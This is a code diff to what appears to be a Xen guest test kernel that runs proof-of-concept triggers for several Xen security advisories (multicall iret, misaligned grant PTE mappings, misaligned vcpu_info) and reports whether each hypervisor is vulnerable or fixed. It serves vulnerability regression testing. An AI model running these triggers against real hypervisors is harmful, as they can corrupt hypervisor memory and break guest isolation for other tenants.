@@ -10,8 +10,10 @@
  *   pvtest: poc: 6 steps, 0 vulnerable, 6 fixed, 0 unexpected
  *
  * Then SCHEDOP_shutdown: poweroff unless a step was unexpected.  A step
- * undoes what it did as far as the hypervisor lets it; the XSA-327 step is
- * last because a vulnerable hypervisor moves vcpu_info somewhere odd.
+ * undoes what it did as far as the hypervisor lets it; the XSA-327 step
+ * comes late because a vulnerable hypervisor moves vcpu_info somewhere odd,
+ * and XSA-213's last (an open-loop replay cannot model an iret inside a
+ * multicall beyond its answer; the steps before it replay exactly).
  *
  * The answers (xen.git): XSA-148 fe360c90ea, XSA-182 e1bff4c2ea (both
  * xen/arch/x86/mm.c mod_l2_entry/mod_l4_entry), XSA-213 22c096c99d
@@ -27,7 +29,6 @@
 #define VCPUOP_register_vcpu_info 10
 struct vcpu_register_vcpu_info { uint64_t mfn; uint32_t offset, rsvd; };
 
-#define XENVER_pagesize 7
 #define _PAGE_PSE       0x080UL
 #define PDE_FLAGS       (_PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED)
 #define PTE_MAP         (_PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED | _PAGE_DIRTY | _PAGE_NX)
@@ -135,19 +136,22 @@ static void poc_182(void)
     set_page_ro(poc_l4, 0);
 }
 
-/* XSA-213: an iret inside a multicall, with an entry after it. */
+/* XSA-213: an iret inside a multicall, with an entry after it.  The iret's
+ * RAX is 0: what the verdict rests on is whether the entry after it ran (an
+ * open-loop replay models no vCPU registers, so an iret answers 0 there, and
+ * with 0 the recording and the open-loop answer agree).  fpu_taskswitch(0)
+ * answers 0 on every Xen; the entries start at 0xdead. */
 static void poc_213(void)
 {
     struct multicall_entry mc[3] = {
-        { HC_xen_version, 0xdead, { XENVER_pagesize, 0 } },
+        { HC_fpu_taskswitch, 0xdead, { 0 } },
         { HC_iret, 0xdead, { 0 } },
-        { HC_xen_version, 0xdead, { XENVER_pagesize, 0 } },
+        { HC_fpu_taskswitch, 0xdead, { 0 } },
     };
-    const unsigned long rax = 0x213abcd213UL;
-    long rc = poc_multicall_iret(mc, 3, rax);
-    verdict(213, (unsigned long)rc == rax && mc[2].result == 0xdead,
-            rc == 0 && mc[2].result == PAGE_SIZE,
-            "multicall [xen_version, iret, xen_version]",
+    long rc = poc_multicall_iret(mc, 3, 0);
+    verdict(213, rc == 0 && mc[1].result == 0 && mc[2].result == 0xdead,
+            rc == 0 && mc[2].result == 0,
+            "multicall [fpu_taskswitch, iret, fpu_taskswitch]",
             "RAX 0x%lx, entry after the iret %s", (unsigned long)rc,
             mc[2].result == 0xdead ? "not run" : "ran");
 }
@@ -211,14 +215,28 @@ static void poc_227(void)
     uint64_t pte0 = lookup_pte((unsigned long)window[0]);
     uint64_t pte1 = lookup_pte((unsigned long)window[1]);
     pte_slot((unsigned long)window[0], 1, &pte_ma);
-    struct gnttab_map_grant_ref m = map(pte_ma + 4, GNTMAP_host_map | GNTMAP_contains_pte);
+    /* The same mapping at the entry itself first: it works, so only the
+     * alignment can refuse the second one.  (It also puts the page tables in
+     * the recording, which an open-loop replay needs to follow a Xen that
+     * goes past the alignment check.) */
+    struct gnttab_map_grant_ref m = map(pte_ma, GNTMAP_host_map | GNTMAP_contains_pte);
+    if (m.status != GNTST_okay) {
+        verdict(227, 0, 0, what, "setup: map at the aligned address, status %d", m.status);
+        return;
+    }
+    unmap(pte_ma, m.handle);
+    mmu1(pte_ma, pte0);
+    invlpg(window[0]);
+    m = map(pte_ma + 4, GNTMAP_host_map | GNTMAP_contains_pte);
     verdict(227, m.status == GNTST_general_error, m.status == GNTST_okay, what,
             "status %d%s", m.status,
             m.status == GNTST_okay ? " (the PTE straddles two L1 entries)" : "");
     if (m.status == GNTST_okay) {
         unmap(pte_ma + 4, m.handle);
-        HYPERVISOR_update_va_mapping((unsigned long)window[0], pte0, UVMF_INVLPG | UVMF_LOCAL);
-        HYPERVISOR_update_va_mapping((unsigned long)window[1], pte1, UVMF_INVLPG | UVMF_LOCAL);
+        mmu1(pte_ma, pte0);
+        mmu1(pte_ma + 8, pte1);
+        invlpg(window[0]);
+        invlpg(window[1]);
     }
 }
 
@@ -227,7 +245,9 @@ static void poc_234(void)
 {
     const char *what = "unmap_grant_ref of a writable host mapping whose PTE was made "
                        "read-only";
+    uint64_t pte_ma = 0;
     uint64_t orig = lookup_pte((unsigned long)window[0]);
+    pte_slot((unsigned long)window[0], 1, &pte_ma);
     struct gnttab_map_grant_ref m = map((unsigned long)window[0], GNTMAP_host_map);
     if (m.status != GNTST_okay) {
         verdict(234, 0, 0, what, "setup: map status %d", m.status);
@@ -244,7 +264,9 @@ static void poc_234(void)
         HYPERVISOR_update_va_mapping((unsigned long)window[0], pte, UVMF_INVLPG | UVMF_LOCAL);
         unmap((unsigned long)window[0], m.handle);
     }
-    HYPERVISOR_update_va_mapping((unsigned long)window[0], orig, UVMF_INVLPG | UVMF_LOCAL);
+    /* the PTE is empty now: put the page's own mapping back by machine address */
+    mmu1(pte_ma, orig);
+    invlpg(window[0]);
 }
 
 /* XSA-327: vcpu_info registered at an offset that is not 8-byte aligned. */
@@ -266,7 +288,6 @@ unsigned checks_poc(long trap_rc)
         printk("pvtest: set_trap_table failed (rc %ld)\n", trap_rc);
     poc_148();
     poc_182();
-    poc_213();
     long rc = poc_grant_setup();
     if (rc) {
         verdict(227, 0, 0, "grant table setup", "failed (%ld)", rc);
@@ -276,6 +297,7 @@ unsigned checks_poc(long trap_rc)
         poc_234();
     }
     poc_327();
+    poc_213();
     printk("pvtest: poc: %u steps, %u vulnerable, %u fixed, %u unexpected\n",
            nvuln + nfixed + nodd, nvuln, nfixed, nodd);
     return nodd + (trap_rc != 0);
